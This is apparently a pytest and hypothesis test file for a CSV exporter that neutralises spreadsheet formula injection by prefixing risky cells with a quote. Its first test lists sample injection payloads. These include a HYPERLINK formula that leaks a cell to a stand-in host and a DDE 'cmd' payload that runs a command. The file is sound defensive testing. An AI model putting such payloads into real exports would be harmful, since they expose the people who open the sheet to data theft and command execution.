"""CSV cells a spreadsheet will not run: text that starts a formula gets a ' in front."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from events.exporters import neutralise_cell, neutralise_row
from events.exporters.csv_cells import FORMULA_STARTS

TRIGGERS = sorted(FORMULA_STARTS)
texts = st.text(max_size=40)
formula_texts = st.builds(lambda first, rest: first + rest, st.sampled_from(TRIGGERS), texts)
numbers = st.one_of(
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=False, allow_infinity=False),
)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+A1+A2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_that_would_start_a_formula_gets_a_quote_in_front(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["acct-1", "", " =1+1", "'=1+1", '{"a": 1}', "2026-03-01"])
def test_text_that_starts_no_formula_is_left_as_it_is(cell: str) -> None:
    assert neutralise_cell(cell) == cell


@pytest.mark.parametrize("number", [-5, -0.5, Decimal("-12.50"), float("-inf"), 3, True])
def test_typed_numbers_stay_numbers_even_when_negative(number: object) -> None:
    assert neutralise_cell(number) is number


def test_none_stays_none_so_the_writer_leaves_the_cell_empty() -> None:
    assert neutralise_cell(None) is None


def test_other_values_are_judged_by_their_text() -> None:
    moment = datetime(2026, 3, 1, tzinfo=UTC)

    assert neutralise_cell(moment) == str(moment)
    assert neutralise_cell(timedelta(days=-1)) == "'-1 day, 0:00:00"
    assert neutralise_cell(["=1"]) == "['=1']"


@given(formula_texts)
def test_no_neutralised_text_starts_a_formula(cell: str) -> None:
    neutralised = neutralise_cell(cell)

    assert isinstance(neutralised, str)
    assert neutralised[:1] not in FORMULA_STARTS


@given(texts)
def test_dropping_the_one_quote_gives_the_text_back(cell: str) -> None:
    neutralised = neutralise_cell(cell)

    assert isinstance(neutralised, str)
    restored = neutralised[1:] if cell[:1] in FORMULA_STARTS else neutralised
    assert restored == cell


@given(numbers)
def test_any_number_is_left_alone(number: object) -> None:
    assert neutralise_cell(number) is number


@given(st.lists(st.one_of(texts, formula_texts, numbers, st.none()), max_size=8))
def test_a_row_read_back_from_csv_holds_no_cell_that_starts_a_formula(row: list[object]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(neutralise_row(row))

    read_back = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")), [])

    text_cells = [cell for cell, value in zip(read_back, row, strict=False)
                  if not isinstance(value, int | float | Decimal)]  # fmt: skip
    assert all(cell[:1] not in FORMULA_STARTS for cell in text_cells)
